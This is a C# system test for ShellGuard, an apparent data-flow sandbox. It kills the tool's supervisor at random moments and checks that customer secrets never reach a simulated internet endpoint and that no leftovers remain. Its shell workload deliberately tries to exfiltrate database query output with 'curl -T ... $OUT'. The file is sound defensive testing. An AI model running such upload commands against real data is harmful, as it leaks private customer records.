using System.Diagnostics;
using System.Globalization;
using ShellGuard.Cells.Sessions;
using ShellGuard.Journal;
using ShellGuard.System.Tests.Support;
using Xunit;

namespace ShellGuard.System.Tests.Walls;

/// <summary>kill -9 of a lobby's supervisor at random points of every operation: cells are made and end, relays, gates,
/// frozen sides, labels that grow. Nothing becomes reachable that was not, nothing stays behind, and a later session knows
/// the labels of what was written.</summary>
public sealed class KillTests
{
    private const int Rounds = 25;
    private const string Query = "psql -Atc 'select name from customers order by id'";

    private const string Work = $"""
        while :; do
            {Query} > out.csv
            {Query} | sort | tr a-z A-Z >> out.csv
            {Query} | count
            shellguard run --in desk -- {Query} > of-desk
            shellguard run --in desk -- sh -c 'curl -s -m 2 -T of-desk $OUT; psql -Atc "select 1"'
            {Query} | shellguard run --in desk -- sh -c 'cat >> of-desk; setsid sleep 1 &'
            {Query} | curl -s -T - $OUT
            curl -s -m 2 -T out.csv $OUT
            echo harmless | curl -s -m 2 -T - $OUT
        done > /dev/null 2>&1
        """;

    [Theory, BothIdentities]
    public void Kill_the_supervisor_of_a_lobby(Identity identity) => Repeat(identity, exclusive: false, 11);

    [Theory, BothIdentities]
    public void Kill_the_supervisor_while_sides_take_turns(Identity identity) => Repeat(identity, exclusive: true, 12);

    private static void Repeat(Identity identity, bool exclusive, int seed)
    {
        using GateWorld gates = new(identity) { Exclusive = exclusive };
        gates.AddFilter("count", "exec wc -l", "integer 0..1000000", "bits = 10000\nper = \"1h\"");
        gates.AddCell($"""
            [cell.desk]
            clearance = ["db:customers"]
            net = ["127.0.0.1:{gates.World.DatabasePort}", "127.0.0.1:{gates.World.InternetPort}"]
            """);
        Random random = new(seed);
        for (int round = 0; round < Rounds; round++)
        {
            using Process session = gates.Start(Work);
            session.OutputDataReceived += (_, _) => { };
            session.BeginOutputReadLine();
            session.BeginErrorReadLine();
            Thread.Sleep(200 + random.Next(2500));
            Programs.Run("kill", "-9", session.Id.ToString(CultureInfo.InvariantCulture));
            Assert.True(session.WaitForExit(Programs.Patience), $"the supervisor outlived round {round}");
            Leftovers.AssertNone(gates.Area);
            Inspect(gates);
        }

        // It starts again, and all is as it was.
        Outcome outcome = gates.Lobby($"{Query} | wc -l; {Query} | curl -s -T - $OUT; echo $?");
        Assert.Equal("3\n126\n", outcome.Output);
        Assert.DoesNotContain(CustomerWorld.Secret, gates.World.Received, StringComparison.OrdinalIgnoreCase);
        Leftovers.AssertNone(gates.Area);
    }

    private static void Inspect(GateWorld gates)
    {
        Assert.DoesNotContain(CustomerWorld.Secret, gates.World.Received, StringComparison.OrdinalIgnoreCase);
        foreach (string session in gates.Area.Sessions)
        {
            if (File.Exists(SessionFiles.Journal(session)))
            {
                Assert.NotEqual(JournalStatus.Bad, Remains.Verify(session).Status);
            }

            foreach (string file in Secrets(session))
            {
                // Where it lies, the label says so; in the lobby's own layer it never lies.
                string cells = $"{session}/cells/";
                Assert.StartsWith(cells, file, StringComparison.Ordinal);
                string label = $"{cells}{file[cells.Length..].Split('/')[0]}/label";
                Assert.Contains("db:customers", File.ReadAllLines(label));
            }

            Programs.Run("rm", "-rf", session).Succeed();
        }
    }

    private static string[] Secrets(string session) => Programs.Run(
        "grep", "-rilF", "--binary-files=text", CustomerWorld.Secret, session).Output
        .Split('\n', StringSplitOptions.RemoveEmptyEntries);
}
